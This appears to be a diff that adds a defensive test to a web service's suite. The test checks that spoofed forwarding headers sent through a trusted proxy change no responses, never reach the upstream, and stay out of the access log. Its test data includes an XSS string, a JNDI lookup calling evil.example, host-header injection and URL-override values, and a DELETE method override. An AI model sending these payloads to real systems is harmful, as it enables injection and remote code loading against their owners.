@@ -36,6 +36,67 @@ test('the service gets the key, but no headers of the reader', async ({ site, up
   ])
 })
 
+test.describe('behind a trusted proxy', () => {
+  test.use({ settings: { TRUSTED_PROXY: '127.0.0.1' } })
+
+  test('nothing that a proxy or a reader writes about the request leads elsewhere or reaches the log', async ({
+    site,
+    upstream,
+  }) => {
+    const ADDRESSES = [
+      '',
+      ' , ,',
+      'unknown',
+      '192.0.2.1, unknown',
+      '_hidden',
+      '192.0.2.1:443',
+      '[2001:db8::1]:443',
+      '::ffff:192.0.2.9',
+      'fe80::1%eth0',
+      '999.999.999.999',
+      '127.0.0.1',
+      '127.0.0.1, 127.0.0.1',
+      '"><script>alert(1)</script>',
+      '$remote_user ${jndi:ldap://evil.example/a}',
+      Array.from({ length: 500 }, () => '192.0.2.1').join(', '),
+      'a'.repeat(8000),
+    ]
+    for (const address of ADDRESSES) {
+      const headers = { 'X-Forwarded-For': address, 'X-Real-IP': address }
+      for (const path of ['/brands/northwind', SCORE]) {
+        const { status } = await ask(site.url, path, { headers })
+        expect([address, path, status]).toEqual([address, path, 200])
+      }
+    }
+    const LIES = {
+      'X-Forwarded-Host': 'evil.example, evil.example',
+      'X-Forwarded-Proto': 'javascript',
+      'X-Forwarded-Port': '0',
+      'X-Forwarded-Prefix': '//evil.example',
+      'X-Forwarded-Server': 'evil.example',
+      'X-Forwarded-Uri': '/v1/keys',
+      'X-Original-URL': '/v1/keys',
+      'X-Rewrite-URL': '/v1/keys',
+      'X-HTTP-Method-Override': 'DELETE',
+      Forwarded: 'for="_evil";host=evil.example;proto=http',
+    }
+    for (const path of ['/', '/brands/northwind', '/assets', SCORE]) {
+      const plain = await ask(site.url, path)
+      const answer = await ask(site.url, path, { headers: LIES })
+      expect([path, answer.status, answer.headers.location]).toEqual([
+        path,
+        plain.status,
+        plain.headers.location,
+      ])
+      expect(answer.body.equals(plain.body)).toBe(true)
+    }
+    expect(JSON.stringify(upstream.received)).not.toContain('evil.example')
+    const { access } = await site.readLogs()
+    for (const line of access.trim().split('\n'))
+      expect(line).toMatch(/^[\da-f.:]+ - \[|^[\da-f.:]+ - - /)
+  })
+})
+
 test('large answers are compressed', async ({ site }) => {
   const { headers } = await ask(site.url, '/v1/brands/northwind/citations?limit=50', {
     headers: { 'Accept-Encoding': 'gzip' },
